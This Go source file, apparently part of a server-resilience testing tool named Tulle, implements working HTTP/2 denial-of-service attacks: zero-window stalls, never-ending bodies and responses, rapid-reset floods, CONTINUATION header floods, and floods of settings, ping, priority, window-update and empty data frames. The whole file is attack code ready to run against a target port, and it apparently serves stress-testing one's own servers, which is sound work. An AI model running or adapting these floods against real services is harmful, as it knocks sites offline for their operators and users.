// SPDX-License-Identifier: Apache-2.0
// Copyright The Tulle Authors.

package attack

import (
	"context"
	"fmt"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

// streams is how many requests an attacker has at a time on a connection, more than it may have.
const streams = 1100

// What the echo app does for a long time.
const (
	large  = "/bytes/1048576"
	small  = "/bytes/60000"
	hang   = "/stream?count=2&every=1h"
	upload = "/upload"
)

// HTTP2 are the attacks on a port that speaks HTTP/2.
func HTTP2() []Attack {
	none := []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}
	return []Attack{
		{"windows of zero", false, asks(none, "GET", large, 0)},
		{"windows of zero and short answers", false, asks(none, "GET", small, 0)},
		{"bodies that do not end", false, asks(nil, "POST", upload, 48<<10)},
		{"answers that do not end", false, asks(nil, "GET", hang, 0)},
		{"uploads that nobody answers", false, asks(nil, "POST", hang, 48<<10)},
		{"resets", true, flood(costRequest, func(f *Framed, n int) error {
			id, err := f.Ask(n, "GET", hang)
			if err != nil {
				return err
			}
			return f.WriteRSTStream(id, http2.ErrCodeCancel)
		})},
		{"headers that do not end", true, flood(costPiece, func(f *Framed, n int) error {
			if n == 0 {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.head("GET", "/")})
			}
			f.block.Reset()
			f.field(fmt.Sprintf("x-%d", n), strings.Repeat("v", 8000))
			return f.WriteContinuation(1, false, f.block.Bytes())
		})},
		{"empty continuations", true, flood(costFrame, func(f *Framed, n int) error {
			if n == 0 {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: f.head("GET", "/")})
			}
			return f.WriteContinuation(1, false, nil)
		})},
		{"one header many times", true, flood(costRequest, func(f *Framed, n int) error {
			more := []string{"x-big: " + strings.Repeat("v", 3900)}
			for range 2000 {
				more = append(more, more[0])
			}
			_, err := f.Ask(n, "GET", "/", more...)
			return err
		})},
		{"settings", true, flood(costFrame, func(f *Framed, _ int) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1})
		})},
		{"pings", true, flood(costFrame, func(f *Framed, _ int) error { return f.WritePing(false, [8]byte{}) })},
		{"empty frames", true, flood(costFrame, func(f *Framed, n int) error {
			if n == 0 {
				_, err := f.Ask(0, "POST", upload)
				return err
			}
			return f.WriteData(1, false, nil)
		})},
		{"priorities", true, flood(costFrame, func(f *Framed, n int) error { return f.WritePriority(uint32(2*n+1), http2.PriorityParam{Weight: 1}) })},
		{"window updates", true, flood(costFrame, func(f *Framed, _ int) error { return f.WriteWindowUpdate(0, 1) })},
	}
}

// framed does act on connections with settings of the client; where act returns without an error, the
// connection stays until the server ends it.
func framed(settings []http2.Setting, act func(ctx context.Context, to Target, f *Framed) error) func(context.Context, Target) {
	return func(ctx context.Context, to Target) {
		to.keep(ctx, to.Connections, to.http2, func(ctx context.Context, _ int, c net.Conn) {
			f, err := NewFramed(c, settings...)
			if err != nil {
				return
			}
			if act(ctx, to, f) == nil {
				<-f.done // at the latest when ctx is done: keep closes the connection then
			}
		})
	}
}

// asks makes many requests on each connection, with so many bytes of their bodies.
func asks(settings []http2.Setting, method, path string, body int) func(context.Context, Target) {
	return framed(settings, func(ctx context.Context, to Target, f *Framed) error {
		for n := range streams {
			if err := to.send(ctx, costRequest); err != nil {
				return err
			}
			id, err := f.Ask(n, method, path)
			if err != nil {
				return err
			}
			for sent := 0; sent < body; sent += 16 << 10 {
				if err := to.send(ctx, costPiece); err != nil {
					return err
				}
				if err := f.WriteData(id, false, make([]byte, 16<<10)); err != nil {
					return err
				}
			}
		}
		return nil
	})
}

// flood writes the nth frame, for every n, until the server ends the connection.
func flood(cost int, frame func(f *Framed, n int) error) func(context.Context, Target) {
	return framed(nil, func(ctx context.Context, to Target, f *Framed) error {
		for n := 0; ; n++ {
			if err := to.send(ctx, cost); err != nil {
				return err
			}
			_ = f.conn.SetWriteDeadline(time.Now().Add(writeTimeout))
			if err := frame(f, n); err != nil {
				return err
			}
		}
	})
}
